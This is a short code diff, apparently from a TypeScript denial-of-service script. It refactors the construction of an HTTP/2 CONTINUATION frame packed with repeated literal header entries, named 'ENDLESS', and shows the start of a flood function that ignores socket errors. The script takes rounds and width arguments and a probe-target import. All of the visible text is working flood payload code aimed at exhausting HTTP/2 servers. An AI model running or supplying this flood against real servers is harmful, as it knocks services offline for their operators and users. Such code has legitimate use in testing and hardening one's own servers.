@@ -10,8 +10,8 @@ import { probeTarget } from "./probe-target.ts";
 
 const [rounds = 1, width = 1] = process.argv.slice(2).map(Number);
 
-const HEADER_WITHOUT_INDEXING = [0, 1, 97, 1, 98];
-const ENDLESS = http2Frame(CONTINUATION, 0, 1, Buffer.from(Array(64).fill(HEADER_WITHOUT_INDEXING).flat()));
+const HEADERS_WITHOUT_INDEXING = Buffer.alloc(64 * 5, Buffer.from([0, 1, 97, 1, 98]));
+const ENDLESS = http2Frame(CONTINUATION, 0, 1, HEADERS_WITHOUT_INDEXING);
 
 function flood(socket: Socket): void {
   socket.on("error", () => {});
